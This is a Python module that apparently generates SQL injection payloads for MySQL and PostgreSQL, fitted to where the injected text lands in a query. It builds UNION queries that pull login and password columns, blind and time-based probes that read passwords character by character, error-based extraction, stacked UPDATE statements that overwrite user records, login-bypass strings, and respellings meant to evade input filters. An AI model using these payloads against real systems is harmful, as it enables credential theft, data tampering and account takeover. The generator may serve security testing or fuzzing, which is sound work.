"""Texts that break out of a statement, by dialect and by what stands around the place where the text lands."""
import re
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Place:
    """A field whose text reaches an interpreter unescaped. `{}` in the path stands for it where the path carries it."""

    method: str
    path: str
    name: str = ""
    context: str = "string"  # number, string (in quotes), like (in '%…%', then `close`), order (after ORDER BY)
    close: str = ""  # what ends brackets around the place
    columns: str = ""  # of the SELECT: n for a number, t for a text
    others: dict = field(default_factory=dict)
    body: str = "form"  # or json (others is then a template: see `filled`)
    honest: str = "1"  # what honest users send there


@dataclass(frozen=True)
class Secrets:
    """The table that attackers want, and columns of it that an UPDATE can alter."""

    table: str
    login: str
    password: str
    alterable: tuple


class Dialect:
    def __init__(self, name):
        self.pg = name == "postgresql"

    def sleep(self, seconds):
        return f"(select 1 from pg_sleep({seconds}))" if self.pg else f"(select sleep({seconds}))"

    def ends(self, rand):
        return rand.choice(["-- ", "--\t", "-- x"] if self.pg else ["-- ", "#", "-- -"])

    def error(self, query):
        return f"cast(({query}) as int)" if self.pg else f"extractvalue(1,concat(0x7e,({query})))"

    def joined(self, a, b):
        return f"{a}||chr(58)||{b}" if self.pg else f"concat({a},0x3a,{b})"


def out_of(place, rand):
    """What leaves the place's context, so that a condition or a UNION can follow."""
    if place.context == "number":
        return rand.choice(["1", "-1", "0"]) + place.close
    return rand.choice(["zz", "x", ""]) + ("%'" if place.context == "like" else "'") + place.close


def union(place, secrets, dialect, rand):
    wanted = dialect.joined(secrets.login, secrets.password) if rand.random() < 0.5 else secrets.password
    source = secrets.table
    if rand.random() < 0.25:
        wanted, source = rand.choice([("table_name", "information_schema.tables"), ("column_name", "information_schema.columns")])
    columns = ["null"] * len(place.columns)
    columns[place.columns.index("t")] = wanted
    tail = rand.choice(["", f" limit {rand.randrange(1, 9)}", f" where {secrets.login} is not null"]) if source == secrets.table else " limit 30"
    return f"{out_of(place, rand)} union {rand.choice(['', 'all '])}select {','.join(columns)} from {source}{tail}{dialect.ends(rand)}"


def probe(secrets, rand):
    position, code = rand.randrange(1, 12), rand.randrange(48, 122)
    test = f"ascii(substr((select {secrets.password} from {secrets.table} order by 1 limit 1),{position},1))"
    return rand.choice([f"{test}>{code}", f"{test} between {code} and 122", f"exists(select 1 from {secrets.table} where {secrets.password} like '{chr(code)}%')"])


def blind(place, secrets, dialect, rand):
    test = probe(secrets, rand)
    if place.context == "order":
        return f"(case when {test} then {place.columns.split(',')[0]} else {place.columns.split(',')[1]} end)"
    if rand.random() < 0.2:
        test = f"{rand.randrange(9)}={rand.randrange(9)}"
    return f"{out_of(place, rand)} {rand.choice(['or', 'and'])} {test}{dialect.ends(rand)}"


def timed(place, secrets, dialect, rand):
    nap = dialect.sleep(rand.choice(["0.05", "0.3", "1"]))
    test = f"1={nap}" if rand.random() < 0.5 else f"1=(case when {probe(secrets, rand)} then {nap} else 1 end)"
    return f"{out_of(place, rand)} {rand.choice(['or', 'and'])} {test}{dialect.ends(rand)}"


def error(place, secrets, dialect, rand):
    query = f"select {rand.choice([secrets.login, secrets.password])} from {secrets.table} order by 1 limit 1"
    if place.context == "order":
        return dialect.error(query)
    return f"{out_of(place, rand)} and 1={dialect.error(query)}{dialect.ends(rand)}"


def assignments(secrets, dialect, rand, count):
    values = {name: rand.choice(["'none'", "'1 Far Away'", f"'kim{rand.randrange(9999)}@mail.example'", f"(select max({secrets.password}) from {secrets.table})"]) for name in rand.sample(secrets.alterable, count)}
    if not dialect.pg:  # MySQL reads no table that the same statement writes, unless it is wrapped
        values = {name: value.replace("(select", "(select * from (select").replace(f"{secrets.table})", f"{secrets.table}) a)") for name, value in values.items()}
    return ",".join(f"{name}={value}" for name, value in values.items())


def stacked(place, secrets, dialect, rand, count):
    return f"{out_of(place, rand)}; update {secrets.table} set {assignments(secrets, dialect, rand, count)} where {secrets.login}='{rand.choice(['kim', 'lou', 'ida'])}'{dialect.ends(rand)}"


def update(place, secrets, dialect, rand, count):
    tail = rand.choice([f" where {secrets.login}='lou'", f" where {secrets.login}='kim'", " where 1=1"])
    return f"{rand.choice(['x', 'ok', ''])}',{assignments(secrets, dialect, rand, count)}{tail}{dialect.ends(rand)}"


def bypass(place, secrets, dialect, rand):
    names = ["admin' -- ", "' or 1=1 limit 1 -- ", "x' or 'a'='a' limit 1 -- ", "kim'-- ", f"' or {secrets.login} like 'a%' limit 1 -- ", "admin'/**/or/**/'1'='1"]
    return rand.choice(names + ([] if dialect.pg else ["admin'#", "' || 1 -- "]))


def respelled(text, dialect, rand):
    """The same statement in one of the spellings that get past simple filters."""
    kind = rand.randrange(6)
    if kind == 1:
        return re.sub(r" (?=\S)", "/**/", text)
    if kind == 2:
        words = r"(?i)\b(union|select|from|update|and|or|where)\b"
        return re.sub(words, lambda word: "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(word[0])), text)
    if kind == 3:
        return text.replace(" ", rand.choice(["\t", "\n"]), max(1, text.count(" ") - 1))
    if kind == 4 and not dialect.pg:
        return re.sub(r"(?i)union |select ", lambda word: f"/*!50000{word[0].strip()}*/ ", text)
    return text


def filled(template, name, text):
    """The JSON template with the text at the dotted name."""
    head, _, rest = name.partition(".")
    return template | {head: filled(template.get(head, {}), rest, text) if rest else text}


